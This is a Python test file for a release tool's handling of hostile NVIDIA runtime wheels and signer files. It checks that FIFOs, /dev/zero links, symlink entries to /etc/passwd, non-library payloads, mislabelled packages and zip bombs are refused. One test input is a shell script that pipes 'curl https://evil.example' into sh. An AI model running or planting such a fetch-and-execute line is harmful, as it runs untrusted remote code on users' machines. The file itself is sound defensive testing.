"""Hostile NVIDIA runtime wheels and allowed-signers files: what
`release --runtime-wheels` and `verify` read is a plain file, opened once; what the runtime
archive ships is a shared library of the wheel it says, checked before it is written."""

from __future__ import annotations

import json
import os
import stat
import threading
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from patchkit.core.errors import ReleaseError
from patchkit.release.archive import Member, read_archive, write_archive
from patchkit.release.bundle import RuntimeSpec, WheelLimits, stage_runtime
from patchkit.release.release import dump_manifest
from patchkit.release.verify import verify_dir
from tests.fixtures.elf import make_elf
from tests.fixtures.release import do_release
from tests.fixtures.wheels import make_wheel, runtime_wheels
from tests.unit.release.test_bundle import cuda_build

LIB = "nvidia/cu12/lib/libcudart.so.12"
NEWEST = "nvidia_cuda_runtime_cu12-12.4.99-py3-none-manylinux_2_27_x86_64.whl"
SPEC = RuntimeSpec(os="linux", arch="x86_64", major=12, minor=4)


def _within(seconds: float, fn: Callable[[], Any]) -> BaseException | None:
    """Run ``fn`` in a thread; the exception it ended with (None: it returned). Fails the
    test when it has not ended after ``seconds`` (a read that blocks or never ends)."""
    result: list[BaseException | None] = []

    def target() -> None:
        try:
            fn()
            result.append(None)
        except BaseException as e:
            result.append(e)

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(seconds)
    assert result, f"still running after {seconds}s (blocked on a FIFO, or reading forever)"
    return result[0]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs")
def test_a_fifo_or_a_link_to_dev_zero_as_the_newest_wheel_is_refused_at_once(tmp_path: Path) -> None:
    """The wheel was hashed before it was checked to be a plain file: a FIFO blocked
    `release` forever, a link to /dev/zero read at 100 % CPU forever."""
    build = cuda_build(tmp_path)
    wheels = tmp_path / "wheels"
    runtime_wheels(wheels, major=12, minor=4)
    fifo = wheels / NEWEST
    os.mkfifo(fifo)
    try:
        err = _within(20, lambda: do_release(build, tmp_path / "dist", runtime_wheels=wheels))
    finally:  # unblock a reader the old code left waiting
        try:
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
    assert isinstance(err, ReleaseError), err
    assert err.message == f"{NEWEST}: not a plain file (a FIFO, device or folder is never read)"
    fifo.unlink()
    (wheels / NEWEST).symlink_to("/dev/zero")
    err = _within(20, lambda: do_release(build, tmp_path / "dist2", runtime_wheels=wheels))
    assert isinstance(err, ReleaseError), err
    assert err.message == f"{NEWEST}: not a plain file (a link: links are not followed)"
    assert not (tmp_path / "dist").exists() and not (tmp_path / "dist2").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="FIFOs")
def test_verify_refuses_an_allowed_signers_fifo_before_reading_a_statement(tmp_path: Path) -> None:
    """`verify --allowed-signers FIFO` stalled 60 s per statement (ssh-keygen waited)."""
    build = cuda_build(tmp_path)
    dist = tmp_path / "dist"
    wheels = tmp_path / "wheels"
    runtime_wheels(wheels, major=12, minor=4)
    do_release(build, dist, runtime_wheels=wheels)
    fifo = tmp_path / "signers"
    os.mkfifo(fifo)
    err = _within(20, lambda: verify_dir(dist, allowed_signers=fifo))
    assert isinstance(err, ReleaseError), err
    assert err.message == f"--allowed-signers {fifo}: not a regular file (a FIFO or device is never read)"
    big = tmp_path / "big"
    big.write_bytes(b"#" * ((1 << 20) + 1))
    with pytest.raises(ReleaseError, match="larger than 1 MiB"):
        verify_dir(dist, allowed_signers=big)


def _rewrite(wheel: Path, edit: Callable[[zipfile.ZipInfo, bytes], tuple[zipfile.ZipInfo, bytes]]) -> None:
    """The wheel written again, every entry passed through ``edit``."""
    with zipfile.ZipFile(wheel) as zf:
        entries = [(i, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(wheel, "w") as zf:
        for info, data in entries:
            new, body = edit(info, data)
            zf.writestr(new, body)


def _release_error(tmp_path: Path, wheels: Path, n: int = 0) -> ReleaseError:
    with pytest.raises(ReleaseError) as e:
        do_release(cuda_build(tmp_path / f"b{n}"), tmp_path / "dist", runtime_wheels=wheels)
    assert not (tmp_path / "dist").exists()
    return e.value


def test_a_symlink_entry_as_the_library_is_refused(tmp_path: Path) -> None:
    """A runtime wheel's zip entry with symlink mode (target /etc/passwd), RECORD consistent."""
    wheels = tmp_path / "wheels"
    rt, _ = runtime_wheels(wheels, major=12, minor=4)
    for w in wheels.glob("nvidia_cuda_runtime*"):
        w.unlink()
    make_wheel(wheels, "nvidia-cuda-runtime-cu12", "12.4.96", {LIB: b"/etc/passwd"})

    def link(info: zipfile.ZipInfo, data: bytes) -> tuple[zipfile.ZipInfo, bytes]:
        if info.filename == LIB:
            info.create_system = 3
            info.external_attr = (stat.S_IFLNK | 0o777) << 16
        return info, data

    _rewrite(rt, link)
    err = _release_error(tmp_path, wheels)
    assert err.message == f"{rt.name}: {LIB} is not a plain file in the wheel (a symlink)"


@pytest.mark.parametrize(
    ("body", "why"),
    [
        (b"#!/bin/sh\ncurl https://evil.example | sh\n", "a script"),
        (b"just text\n", "not an ELF file"),
        (make_elf(needed=("libc.so.6",))[:16] + b"\x02\x00" + make_elf()[18:], "an ELF file of type 2"),
    ],
    ids=["script", "text", "executable"],
)
def test_a_library_that_is_not_a_shared_object_is_refused(tmp_path: Path, body: bytes, why: str) -> None:
    """A runtime wheel holding a shell script (or text, or an executable) with a consistent RECORD."""
    wheels = tmp_path / "wheels"
    runtime_wheels(wheels, major=12, minor=4)
    for w in wheels.glob("nvidia_cuda_runtime*"):
        w.unlink()
    rt = make_wheel(wheels, "nvidia-cuda-runtime-cu12", "12.4.96", {LIB: body})
    err = _release_error(tmp_path, wheels)
    assert err.message.startswith(f"{rt.name}: {LIB} is {why}"), err.message
    assert err.message.endswith("not a shared library")


def test_a_stored_file_with_a_wrong_crc_is_one_line(tmp_path: Path) -> None:
    """A wrong CRC in a runtime wheel is one line (it was a zipfile.BadZipFile traceback, exit 1)."""
    wheels = tmp_path / "wheels"
    rt, _ = runtime_wheels(wheels, major=12, minor=4)

    def stored(info: zipfile.ZipInfo, data: bytes) -> tuple[zipfile.ZipInfo, bytes]:
        info.compress_type = zipfile.ZIP_STORED
        return info, data

    _rewrite(rt, stored)
    raw = rt.read_bytes()
    with zipfile.ZipFile(rt) as zf:
        lib = zf.read(LIB)
    i = raw.index(lib) + len(lib) - 1  # the library's last stored byte
    rt.write_bytes(raw[:i] + bytes([raw[i] ^ 0xFF]) + raw[i + 1 :])
    err = _release_error(tmp_path, wheels)
    assert err.message.startswith(f"{rt.name}: {LIB} cannot be read (Bad CRC-32"), err.message
    assert err.hint == "download it again"


def test_a_wheel_whose_metadata_names_another_package_is_refused(tmp_path: Path) -> None:
    """nvidia_cuda_runtime_cu12-12.4.96-...whl holding evil_pkg-6.6.6.dist-info was
    released and recorded as nvidia-cuda-runtime-cu12 12.4.96."""
    wheels = tmp_path / "wheels"
    runtime_wheels(wheels, major=12, minor=4)
    real = next(wheels.glob("nvidia_cuda_runtime*"))
    real.unlink()
    evil = make_wheel(tmp_path / "evil", "evil-pkg", "6.6.6", {LIB: make_elf(soname="libcudart.so.12")})
    evil.rename(real)
    err = _release_error(tmp_path, wheels)
    assert err.message == (
        f"{real.name}: its metadata folder 'evil_pkg-6.6.6.dist-info' is not "
        "nvidia_cuda_runtime_cu12-12.4.96.dist-info: the file name does not say what it holds"
    )
    # the right name at another version is another wheel too
    real.unlink()
    make_wheel(tmp_path / "v", "nvidia-cuda-runtime-cu12", "12.4.1", {LIB: make_elf()}).rename(real)
    assert "is not nvidia_cuda_runtime_cu12-12.4.96.dist-info" in _release_error(tmp_path, wheels, 1).message


def test_a_library_declaring_more_than_the_limit_is_refused_before_a_byte_is_written(
    tmp_path: Path,
) -> None:
    """A 4.5 GiB library in a 4 MB wheel was refused only after ~4 GiB were written,
    with a message naming the 8 GiB total; its declared size is checked first now (the
    limits are scaled down: the same code path)."""
    wheels = tmp_path / "wheels"
    rt, blas = runtime_wheels(wheels, major=12, minor=4)
    for w in (rt, blas):
        w.unlink()
    big = make_elf(soname="libcudart.so.12") + b"\0" * (64 << 10)
    rt = make_wheel(wheels, "nvidia-cuda-runtime-cu12", "12.4.96", {LIB: big})
    folder = tmp_path / "stage"
    limits = WheelLimits(member=32 << 10, total=1 << 30)
    with pytest.raises(ReleaseError) as e:
        stage_runtime(SPEC, [rt], {"libcudart.so.12"}, folder, limits=limits)
    assert e.value.message == (
        f"{rt.name}: {LIB} declares {len(big)} bytes, more than the "
        f"{(32 << 10) / (1 << 30):g} GiB a file of a wheel may be (a bomb?)"
    )
    assert not (folder / "bin" / "libcudart.so.12").exists()  # nothing written
    # the total over all wheels, by what is declared, also before writing
    with pytest.raises(ReleaseError, match=r"takes what is taken out of the wheels past") as e:
        stage_runtime(SPEC, [rt], {"libcudart.so.12"}, tmp_path / "s2", limits=WheelLimits(total=60 << 10))
    assert not (tmp_path / "s2" / "bin" / "libcudart.so.12").exists()


def test_verify_names_a_runtime_library_that_is_not_one(tmp_path: Path) -> None:
    """Verify's side: a runtime archive (made by an older patchkit, or by hand) whose
    bin/libcudart.so.12 is a script, its manifest agreeing, is a difference."""
    build = cuda_build(tmp_path)
    wheels = tmp_path / "wheels"
    runtime_wheels(wheels, major=12, minor=4)
    dist = tmp_path / "dist"
    r = do_release(build, dist, runtime_wheels=wheels)
    assert r.runtime is not None and verify_dir(dist).ok
    root = r.runtime.name.removesuffix(".tar.gz")
    entries = read_archive(r.runtime, keep=[e.name for e in read_archive(r.runtime)])
    files = {e.name[len(root) + 1 :]: (e.data or b"", e.mode) for e in entries}
    script = b"#!/bin/sh\necho pwned\n"
    files["bin/libcudart.so.12"] = (script, 0o755)
    manifest = json.loads(files["manifest.json"][0])
    for f in manifest["files"]:
        if f["path"] == "bin/libcudart.so.12":
            from patchkit.core.fs import sha256_bytes

            f["sha256"], f["size"] = sha256_bytes(script), len(script)
    files["manifest.json"] = (dump_manifest(manifest), 0o644)
    write_archive(
        r.runtime,
        root,
        [Member(name=n, mode=m, data=d) for n, (d, m) in files.items()],
        mtime=manifest["source_date_epoch"],
    )
    diffs = verify_dir(dist).differences
    assert (
        f"{r.runtime.name}: bin/libcudart.so.12: not an ELF shared library "
        "(a runtime archive ships only NVIDIA's libraries)" in diffs
    ), diffs
